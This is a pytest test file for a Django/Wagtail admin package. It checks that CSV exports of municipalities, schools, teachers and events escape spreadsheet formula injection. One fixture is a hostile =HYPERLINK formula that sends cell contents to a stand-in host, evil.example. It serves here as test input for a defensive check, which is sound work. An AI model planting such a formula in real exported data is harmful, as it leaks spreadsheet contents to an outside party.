"""No exported spreadsheet cell runs as a formula (OWASP's advice on CSV injection)."""

import csv
import datetime
import io

import pytest
from django.urls import reverse
from django.utils import timezone

from tests.factories import MunicipalityFactory, SchoolFactory, make_event, make_teacher
from wagtail_iom.core.exports import SafeCSVExportMixin, csv_writer, safe_cell
from wagtail_iom.models import (
    DiagnosticLevel,
    DiagnosticProcedure,
    DiagnosticResult,
    Registration,
    Route,
)

FORMULA = '=HYPERLINK("http://evil.example/?"&A1,"Открыть")'


@pytest.mark.parametrize("prefix", ["=", "+", "-", "@", "\t", "\r"])
def test_a_cell_that_starts_like_a_formula_is_quoted(prefix):
    assert safe_cell(prefix + "1+1") == "'" + prefix + "1+1"


@pytest.mark.parametrize("value", ["Иванова", "", "a=b", 42, -5, None, 1.5])
def test_other_cells_are_left_as_they_are(value):
    assert safe_cell(value) == value


def test_the_csv_writer_quotes_formulas():
    stream = io.StringIO()
    csv_writer(stream, delimiter=";").writerow(["=1+2", "ok", 3])
    assert stream.getvalue().strip() == "'=1+2;ok;3"


def exported_cells(client, url):
    response = client.get(url, {"export": "csv"})
    assert response.status_code == 200
    content = b"".join(response.streaming_content).decode("utf-8-sig")
    return [cell for row in csv.reader(io.StringIO(content)) for cell in row]


@pytest.mark.django_db
def test_every_listing_export_quotes_a_hostile_name(admin_client, resource_map):
    """A municipality, a school, a teacher and an event named like a formula: no CSV export of
    the admin carries the formula as it is."""
    municipality = MunicipalityFactory(name=FORMULA)
    school = SchoolFactory(municipality=municipality, name=FORMULA)
    teacher = make_teacher(
        username="hostile", last_name=FORMULA, municipality=municipality, school=school
    )
    event = make_event(resource_map, title=FORMULA)
    Registration.objects.create(event=event, user=teacher.user, status="confirmed")
    today = timezone.localdate()
    DiagnosticResult.objects.create(
        teacher=teacher,
        date=today,
        procedure=DiagnosticProcedure.values[0],
        procedure_name=FORMULA,
        level=DiagnosticLevel.values[0],
        total_score=40,
    )
    Route.objects.create(
        teacher=teacher, starts_on=today, ends_on=today + datetime.timedelta(days=200)
    )
    urls = [
        reverse("wagtail_iom_municipality:index"),
        reverse("wagtail_iom_school:index"),
        reverse("wagtail_iom_registrations:index"),
        reverse("wagtail_iom_diagnostics:index"),
        "/admin/iom/routes/",
        "/admin/iom/events/",
    ]
    for url in urls:
        cells = exported_cells(admin_client, url)
        assert not [cell for cell in cells if cell.startswith("=")], url
        assert any(cell.startswith("'=HYPERLINK") for cell in cells), url


@pytest.mark.django_db
def test_every_admin_listing_that_exports_uses_the_safe_mixin():
    """A new listing with ``list_export`` must quote formulas too."""
    from wagtail.admin.viewsets import viewsets

    reverse("wagtailadmin_home")  # loads the admin's URLs, which register the viewsets
    exporting = [
        viewset
        for viewset in viewsets.viewsets
        if type(viewset).__module__.startswith("wagtail_iom")
        and getattr(viewset, "list_export", None)
    ]
    assert exporting, "the package's listings are registered"
    unsafe = [
        type(viewset).__name__
        for viewset in exporting
        if not issubclass(viewset.index_view_class, SafeCSVExportMixin)
    ]
    assert unsafe == []
